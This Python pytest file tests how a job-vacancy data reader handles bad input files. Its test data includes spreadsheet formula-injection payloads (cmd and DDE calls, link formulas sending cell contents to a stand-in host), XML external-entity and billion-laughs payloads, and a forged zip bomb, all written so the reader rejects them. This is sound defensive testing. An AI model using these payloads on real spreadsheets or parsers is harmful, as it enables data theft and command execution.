"""Bad files: a clear error or a listed rejection, and the other rows kept."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import padan.countries
from padan.errors import InputError, NotFound
from padan.model import Kind
from padan.reading.formats import Limits
from padan.reading.read import ReadResult
from padan.reading.read import read as read_file

COUNTRY = padan.countries.load("indonesia")
HEADER = ["Judul", "Perusahaan", "Lokasi", "Gaji", "Deskripsi"]
GOOD = [
    ["Kasir", "PT Sumber Jaya", "Kota Bandung", "Rp 3.000.000", "Melayani pelanggan di kasir"],
    ["Sopir", "PT Angkut Cepat", "Surabaya", "Rp 4.000.000", "Mengantar barang ke toko"],
    ["Penjahit", "CV Melati", "Kab. Sleman", "Rp 2.500.000", "Menjahit seragam sekolah"],
]


def read(path: Path, kind: Kind = Kind.VACANCY, *, limits: Limits | None = None) -> ReadResult:
    """Read, and hold the account to its promise."""
    result = read_file(path, kind, country=COUNTRY, limits=limits)
    account = result.account
    assert account.rows_in == account.rows_out + account.rejected + account.repeated
    assert (account.rows_out, account.rejected, account.repeated) == (
        len(result.table),
        len(result.rejected),
        len(result.repeated),
    )
    return result


def titles(result: ReadResult) -> list[str]:
    return list(result.table.column("title").to_pylist())


def write_csv(
    path: Path, rows: Sequence[Sequence[str]], *, encoding: str = "utf-8", header: Sequence[str] = HEADER
) -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def refused(path: Path, kind: Kind = Kind.VACANCY, *, limits: Limits | None = None) -> str:
    with pytest.raises(InputError) as caught:
        read(path, kind, limits=limits)
    assert caught.value.hint, "an error says what to do next"
    return caught.value.message


def read_or_refused(path: Path, kind: Kind = Kind.VACANCY) -> ReadResult | None:
    """Read, or be told what to do next; nothing else may happen."""
    try:
        return read(path, kind)
    except InputError as error:
        if not error.hint:
            pytest.fail(f"no hint: {error.message}")
        return None


# -- what is no table --------------------------------------------------------------------------------------


def test_a_missing_file_and_a_folder_are_told(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="there is no file"):
        read(tmp_path / "tidak-ada.csv")
    assert "is a folder" in refused(tmp_path)


@pytest.mark.parametrize("content", [b"", b"\n\n  \n", b"\xef\xbb\xbf", b"\xff\xfe"])
def test_an_empty_file_is_told(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "kosong.csv"
    path.write_bytes(content)
    assert "is empty" in refused(path)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "a PNG picture"),
        (b"\x1f\x8b\x08" + bytes(50), "a gzip archive"),
        (b"\x7fELF" + bytes(100), "a program"),
        (b"SQLite format 3\x00" + bytes(100), "an SQLite database"),
        (bytes(range(256)) * 40, "binary data"),
        (b"\x00" * 5000, "binary data"),
    ],
)
def test_binary_data_is_named_whatever_its_suffix(tmp_path: Path, content: bytes, what: str) -> None:
    path = tmp_path / "lowongan.csv"
    path.write_bytes(content)
    assert what in refused(path)


def test_an_archive_of_other_things_is_no_workbook(tmp_path: Path) -> None:
    path = tmp_path / "arsip.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("foto.jpg", b"x")
    assert "a ZIP archive" in refused(path)


@pytest.mark.parametrize("mark", ["WordDocument", "EncryptedPackage"])
def test_an_old_or_locked_word_document_is_no_workbook(tmp_path: Path, mark: str) -> None:
    path = tmp_path / "cv.doc"
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + mark.encode("utf-16-le") + bytes(1000)
    )
    assert ("old Word document" if mark == "WordDocument" else "password") in refused(path, Kind.JOBSEEKER)


def test_a_table_without_a_title_column_says_which_columns_it_has(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", [["1", "2"]], header=["Suhu", "Tekanan"])
    assert "Suhu, Tekanan" in refused(path)


# -- encodings ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]
)
def test_a_table_in_any_usual_encoding_gives_the_same_rows(tmp_path: Path, encoding: str) -> None:
    rows = [
        *GOOD,
        ["Barista café – señor", "PT Kopi Énak", "Kota Bandung", "", "Menyeduh kopi “susu” à la carte"],
    ]
    result = read(write_csv(tmp_path / "x.csv", rows, encoding=encoding))
    assert titles(result) == ["Kasir", "Sopir", "Penjahit", "Barista café – señor"]


def test_a_file_of_mixed_encodings_keeps_both(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", GOOD)
    with path.open("ab") as handle:
        handle.write("Penyeduh café,PT Kopi,Bandung,,Menyeduh\r\n".encode("cp1252"))
        handle.write("Pramusaji résto,PT Kopi,Bandung,,Melayani\r\n".encode())
    result = read(path)
    assert titles(result)[3:] == ["Penyeduh café", "Pramusaji résto"]
    assert result.account.repaired["encoding"] == 1


@pytest.mark.parametrize("name", ["x.jsonl", "x.json"])
def test_json_in_utf_16_is_read(tmp_path: Path, name: str) -> None:
    objects = [dict(zip(HEADER, row, strict=True)) for row in GOOD]
    text = json.dumps(objects) if name == "x.json" else "\n".join(map(json.dumps, objects))
    (tmp_path / name).write_text(text, encoding="utf-16")
    assert titles(read(tmp_path / name)) == ["Kasir", "Sopir", "Penjahit"]


# -- cells and rows ----------------------------------------------------------------------------------------


def test_a_cell_of_ten_megabytes_is_one_rejection(tmp_path: Path) -> None:
    huge = [*GOOD[0][:4], "x" * 10_000_000]
    result = read(write_csv(tmp_path / "x.csv", [GOOD[1], huge, GOOD[2]]))
    assert titles(result) == ["Sopir", "Penjahit"]
    (no,) = result.rejected
    assert (no.row, no.column) == (3, "Deskripsi")
    assert "10,000,000 characters" in no.reason
    assert len(no.value or "") <= 80


def test_a_line_of_ten_megabytes_in_jsonl_is_one_rejection(tmp_path: Path) -> None:
    objects = [dict(zip(HEADER, row, strict=True)) for row in GOOD]
    objects[1]["Deskripsi"] = "y" * 10_000_000
    (tmp_path / "x.jsonl").write_text("\n".join(map(json.dumps, objects)), encoding="utf-8")
    result = read(tmp_path / "x.jsonl")
    assert titles(result) == ["Kasir", "Penjahit"]
    assert [r.row for r in result.rejected] == [2]


def test_a_long_text_within_the_limits_is_cut_and_flagged(tmp_path: Path) -> None:
    result = read(write_csv(tmp_path / "x.csv", [[*GOOD[0][:4], "kata " * 100_000]]))
    (row,) = result.table.to_pylist()
    assert len(row["description"]) == 100_000
    assert "description:text_cut" in row["flags"]


def test_a_quote_that_never_closes_costs_one_row(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", GOOD)
    lines = path.read_text(encoding="utf-8").splitlines()
    lines.insert(2, '"Montir,PT Bengkel,Bandung,,Servis motor')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = read(path)
    assert titles(result) == ["Kasir", "Sopir", "Penjahit"]
    assert [(r.row, "quote" in r.reason) for r in result.rejected] == [(3, True)]


def test_many_quotes_that_never_close_cost_a_row_each_and_little_time(tmp_path: Path) -> None:
    lines = [",".join(HEADER)]
    for number in range(400):
        lines.append(f"Kasir {number},PT Sumber {number},Bandung,,Melayani pelanggan nomor {number}")
        if number % 20 == 0:
            lines.append(f'"Montir {number},PT Bengkel,Bandung,,Servis')
    path = tmp_path / "x.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    result = read(path)
    assert result.account.rows_in == 420
    assert result.account.rows_out == 400
    assert all("Montir" not in t for t in titles(result))


@pytest.mark.parametrize("line", ['"a","b"",c', '"a,b', 'a,"b', '"x"",y'])
def test_a_file_full_of_stray_quotes_still_accounts_for_every_line(tmp_path: Path, line: str) -> None:
    path = tmp_path / "x.csv"
    path.write_text("Judul,Perusahaan\n" + f"{line}\n" * 300 + "Kasir,PT A\n", encoding="utf-8")
    result = read(path)
    assert result.account.rows_in == 301
    assert "Kasir" in titles(result)


def test_a_quoted_cell_may_run_over_lines(tmp_path: Path) -> None:
    rows = [[*GOOD[0][:4], 'Tugas:\n- melayani\n- "menghitung"'], GOOD[1]]
    result = read(write_csv(tmp_path / "x.csv", rows))
    assert result.table.column("description").to_pylist()[0] == 'Tugas:\n- melayani\n- "menghitung"'
    assert result.table.column("source_row").to_pylist() == [2, 5]


def test_ragged_rows_are_filled_or_rejected(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text(
        "Judul,Perusahaan,Lokasi\nKasir,PT A,Bandung\nSopir\nMontir,PT B,Solo,lebih\nKoki,PT C,Solo,,\n\n"
        ",,\n",
        encoding="utf-8",
    )
    result = read(path)
    assert titles(result) == ["Kasir", "Sopir", "Koki"]
    assert [(r.row, "4 cells" in r.reason) for r in result.rejected] == [(4, True)]
    assert result.account.repaired["short_row"] == 1


def test_nul_bytes_and_control_characters_are_taken_out(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(
        b"Judul,Perusahaan,Deskripsi\nKa\x00sir,PT \x07A,Mela\x1byani\n"
        + b"Sopir,PT B,Mengantar barang\n" * 1
    )
    result = read(path)
    assert titles(result) == ["Kasir", "Sopir"]
    assert "\x00" not in repr(result.table.to_pylist())


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://x.example?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+cmd|'/C calc'!A0",
        "-cmd|'/C calc'!A0",
        "=1+1",
        "=A1",
        "=-2+3+cmd|' /C calc'!D2",
        "\t=SUM(A1:A2)",
        '=DDE("cmd";"/C calc";"x")',
        "\uff1dSUM(A1)",
        "<b></b>=HYPERLINK(A1)",
        "\u200b=HYPERLINK(A1)",
    ],
)
def test_a_formula_is_a_rejection_with_its_column(tmp_path: Path, formula: str) -> None:
    result = read(write_csv(tmp_path / "x.csv", [GOOD[0], [formula, *GOOD[1][1:]], GOOD[2]]))
    assert titles(result) == ["Kasir", "Penjahit"]
    (no,) = result.rejected
    assert (no.row, no.column) == (3, "Judul")
    assert "formula" in no.reason


@pytest.mark.parametrize(
    "text",
    ["+62 Bandung Staff", "- Kasir (shift malam)", "@ Kasir", "-", "= Kasir =", "+ Kasir", "C++ (Developer)"],
)
def test_what_only_begins_like_a_formula_is_kept(tmp_path: Path, text: str) -> None:
    result = read(write_csv(tmp_path / "x.csv", [GOOD[0], [GOOD[1][0], *GOOD[1][1:4], text], GOOD[2]]))
    assert titles(result) == ["Kasir", "Sopir", "Penjahit"]


@pytest.mark.parametrize("column", range(5))
def test_a_formula_in_no_column_comes_out(tmp_path: Path, column: int) -> None:
    row = list(GOOD[1])
    row[column] = '=WEBSERVICE("http://x.example/"&A1)'
    result = read(write_csv(tmp_path / "x.csv", [GOOD[0], row]))
    assert "WEBSERVICE" not in repr(result.table.to_pylist())
    assert [r.column for r in result.rejected] == [HEADER[column]]


def test_duplicate_and_blank_headers_get_names_of_their_own(tmp_path: Path) -> None:
    rows = [["Kasir", "Kasir dua", "PT A", "x"]]
    result = read(write_csv(tmp_path / "x.csv", rows, header=["Judul", "Judul", "Perusahaan", ""]))
    assert titles(result) == ["Kasir"]
    assert set(result.account.unused) == {"Judul.2", "column_4"}


def test_a_header_that_looks_like_a_made_up_name_does_not_swallow_a_column(tmp_path: Path) -> None:
    result = read(
        write_csv(tmp_path / "x.csv", [["a", "b", "Kasir", "c"]], header=["x", "x", "Judul", "x.2"])
    )
    assert titles(result) == ["Kasir"]
    assert len(result.account.unused) == 3


def test_three_thousand_columns_are_refused(tmp_path: Path) -> None:
    header = ["Judul", *(f"k{i}" for i in range(3000))]
    assert "3001 columns" in refused(write_csv(tmp_path / "x.csv", [["Kasir"] * 3001], header=header))
    (tmp_path / "x.jsonl").write_text(
        json.dumps(dict.fromkeys(header, "x")) + "\n" + json.dumps({"Judul": "Kasir"}), encoding="utf-8"
    )
    result = read(tmp_path / "x.jsonl")
    assert titles(result) == ["Kasir"]
    assert "3,001" in result.rejected[0].reason


# -- JSON --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["[" * 100_000, "[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000]
)
def test_deep_json_is_no_crash(tmp_path: Path, text: str) -> None:
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    assert "not JSON" in refused(path)


def test_a_deep_line_of_jsonl_is_one_rejection(tmp_path: Path) -> None:
    good = [json.dumps(dict(zip(HEADER, row, strict=True))) for row in GOOD]
    (tmp_path / "x.jsonl").write_text(
        "\n".join([good[0], '{"Judul":' + "[" * 100_000, good[1]]), encoding="utf-8"
    )
    result = read(tmp_path / "x.jsonl")
    assert titles(result) == ["Kasir", "Sopir"]
    assert [r.row for r in result.rejected] == [2]


@pytest.mark.parametrize("depth", [30, 300, 900])
def test_a_value_nested_as_deep_as_json_allows_is_kept_or_rejected(tmp_path: Path, depth: int) -> None:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    line = json.dumps({"Judul": "Kasir", "Deskripsi": value, "Keahlian": value})
    (tmp_path / "x.jsonl").write_text(line + "\n" + json.dumps({"Judul": "Sopir"}), encoding="utf-8")
    result = read(tmp_path / "x.jsonl")
    assert result.account.rows_in == 2
    assert "Sopir" in titles(result)


def test_nan_infinity_and_huge_numbers_are_no_values(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    lines = [
        '{"title": "Kasir", "min salary": NaN, "max salary": Infinity, "kuota": NaN, "company": "A", '
        '"usia min": -Infinity}',
        '{"title": NaN, "company": "B"}',
        '{"title": "Sopir", "min salary": 1e400, "kuota": 1' + "0" * 300 + ', "company": "C"}',
        '{"title": "Koki", "kuota": 1' + "0" * 5000 + "}",
        '{"title": "Penjahit", "min salary": true, "kuota": {"a": 1}, "company": ["D"], "pengalaman '
        'minimum": Infinity}',
    ]
    path.write_text("\n".join(lines), encoding="utf-8")
    result = read(path)
    assert titles(result) == ["Kasir", "Sopir", "Penjahit"]
    assert [r.row for r in result.rejected] == [2, 4]
    for row in result.table.to_pylist():
        assert (row["base_salary_min"], row["base_salary_max"], row["total_job_openings"]) == (
            None,
            None,
            None,
        )


def test_half_characters_do_not_reach_the_table(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text(
        '{"title": "Ka\\ud800sir", "description": "\\udfff teks", "skills": ["\\ud83d"], "company": '
        '"\\ud800"}\n',
        encoding="utf-8",
    )
    (row,) = read(path).table.to_pylist()
    assert row["title"].encode() == b"Kasir"


@pytest.mark.parametrize(
    "text", ['{"a": 1', "[1, 2, 3]", '["Kasir"]', "[]", "{}", '[{"Judul": "Kasir"}', "{'Judul': 'Kasir'}"]
)
def test_json_that_is_broken_or_no_list_of_objects_is_told(tmp_path: Path, text: str) -> None:
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    result = read_or_refused(path)
    assert result is None or result.account.rows_out == 0


def test_rows_of_other_types_between_objects_are_rejected_with_their_place(tmp_path: Path) -> None:
    path = tmp_path / "x.json"
    path.write_text(
        json.dumps([{"Judul": "Kasir"}, 5, None, "x", ["y"], {"Judul": "Sopir"}]), encoding="utf-8"
    )
    result = read(path)
    assert titles(result) == ["Kasir", "Sopir"]
    assert [r.row for r in result.rejected] == [2, 3, 4, 5]


def test_a_large_json_document_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "x.json"
    path.write_text(json.dumps([{"Judul": "Kasir"}] * 10), encoding="utf-8")
    assert "read whole" in refused(path, limits=Limits(json_bytes=50))


# -- XML ---------------------------------------------------------------------------------------------------

LAUGHS = "".join(
    f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" if i else "ha"}{"&a" + str(i - 1) + ";" if i else "ha"}">'
    for i in range(30)
)


@pytest.mark.parametrize(
    "doctype",
    [
        LAUGHS,
        '<!ENTITY a29 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;',
        '<!ENTITY a29 "' + "x" * 100_000 + '">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
def test_entities_are_refused_in_every_encoding(tmp_path: Path, doctype: str, encoding: str) -> None:
    path = tmp_path / "feed.xml"
    item = "<item><title>&a29;</title></item>"
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [{doctype}]>'
    xml = f"{head}<rss><channel>{item}</channel></rss>"
    data = xml.encode(encoding)
    path.write_bytes(b"\xfe\xff" + data if encoding == "utf-16-be" else data)
    assert "entit" in refused(path).lower()


@pytest.mark.parametrize(
    "xml", ["<rss><channel><item>", "<rss", "<a/>", "<" * 5000, "<a>" * 5000, "<?xml version='1.0'?>"]
)
def test_broken_or_unknown_xml_is_told(tmp_path: Path, xml: str) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(xml, encoding="utf-8")
    refused(path)


def test_an_external_doctype_is_not_fetched(tmp_path: Path) -> None:
    path = tmp_path / "feed.xml"
    path.write_text(
        '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd"><rss><channel><item><title>Kasir</title>'
        "<description>Teks</description>"
        "</item></channel></rss>",
        encoding="utf-8",
    )
    assert titles(read(path)) == ["Kasir"]


# -- workbooks and Parquet ---------------------------------------------------------------------------------


def test_a_workbook_bomb_is_not_unpacked(made: Any, tmp_path: Path) -> None:
    path = made.xlsx(tmp_path / "bom.xlsx", [HEADER, *GOOD])
    # a part that says it unpacks to 600 MB; the directory of the archive is asked before anything is unpacked
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(zipfile.ZipInfo("xl/worksheets/sheet2.xml"), b"")
    data = bytearray(path.read_bytes())
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 20 : entry + 28] = (600_000).to_bytes(4, "little") + (600_000_000).to_bytes(4, "little")
    path.write_bytes(data)
    assert "unpack to over" in refused(path)
    small = made.xlsx(tmp_path / "kecil.xlsx", [HEADER, *GOOD])
    with zipfile.ZipFile(small, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/nol.bin", bytes(11_000_000))
    assert "unpack to over" in refused(small)


@pytest.mark.parametrize("keep", [4, 100, 2000, -200, -30])
def test_a_workbook_cut_short_is_told(made: Any, tmp_path: Path, keep: int) -> None:
    path = made.xlsx(tmp_path / "x.xlsx", [HEADER, *GOOD])
    path.write_bytes(path.read_bytes()[:keep])
    refused(path)


@pytest.mark.parametrize(
    "member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml"]
)
@pytest.mark.parametrize("content", [b"", b"<", b"\x00" * 50, b"<?xml version='1.0'?><x/>"])
def test_a_workbook_with_a_damaged_part_is_an_error_or_read(
    made: Any, tmp_path: Path, member: str, content: bytes
) -> None:
    whole = made.xlsx(tmp_path / "x.xlsx", [HEADER, *GOOD])
    path = tmp_path / "rusak.xlsx"
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            target.writestr(name, content if name == member else source.read(name))
    read_or_refused(path)


def test_bytes_changed_anywhere_in_a_workbook_are_no_crash(made: Any, tmp_path: Path) -> None:
    whole = made.xlsx(tmp_path / "x.xlsx", [HEADER, *GOOD]).read_bytes()
    path = tmp_path / "rusak.xlsx"
    for place in range(30, len(whole), len(whole) // 60):
        damaged = bytearray(whole)
        damaged[place : place + 8] = bytes(b ^ 0x5A for b in damaged[place : place + 8])
        path.write_bytes(damaged)
        read_or_refused(path)


def test_a_table_that_begins_lower_in_the_sheet_keeps_its_row_numbers(made: Any, tmp_path: Path) -> None:
    result = read(
        made.xlsx(tmp_path / "x.xlsx", [HEADER, GOOD[0], ["", "PT X", "Solo", "", ""], GOOD[1]], before=3)
    )
    assert titles(result) == ["Kasir", "Sopir"]
    assert result.table.column("source_row").to_pylist() == [5, 7]
    assert [(r.row, r.column) for r in result.rejected] == [(6, "Judul")]


def test_values_of_a_workbook_of_every_type_are_no_crash(made: Any, tmp_path: Path) -> None:
    import datetime as dt

    rows = [
        HEADER,
        [dt.date(2024, 1, 2), 5, True, 3.5e6, dt.datetime(2024, 1, 2, 3, 4)],
        [None, None, None, None, None],
        GOOD[0],
    ]
    result = read(made.xlsx(tmp_path / "x.xlsx", rows))
    assert result.account.rows_in == 2


@pytest.mark.parametrize("keep", [4, 12, 200, -8, -1])
def test_a_parquet_file_cut_short_is_told(tmp_path: Path, keep: int) -> None:
    path = tmp_path / "x.parquet"
    pq.write_table(pa.table({"Judul": ["Kasir", "Sopir"], "Perusahaan": ["A", "B"]}), path)
    path.write_bytes(path.read_bytes()[:keep])
    assert "Parquet" in refused(path)


def test_a_parquet_file_with_damaged_pages_is_told(tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    pq.write_table(pa.table({"Judul": [f"Kasir {i}" for i in range(1000)]}), path, compression="gzip")
    data = bytearray(path.read_bytes())
    data[40:200] = bytes(160)
    path.write_bytes(data)
    assert "Parquet" in refused(path)


def test_parquet_values_of_odd_types_are_no_crash(tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    table = pa.table(
        {
            "Judul": ["Kasir", "Sopir"],
            "Gaji": pa.array([b"\xff\xfe", b"3000000"], pa.binary()),
            "Keahlian": pa.array([["Excel", None], None], pa.list_(pa.string())),
            "Kuota": pa.array([float("nan"), float("inf")]),
            "Tanggal": pa.array([0, 2**62], pa.timestamp("us")),
        }
    )
    pq.write_table(table, path)
    result = read(path)
    assert result.account.rows_in == 2
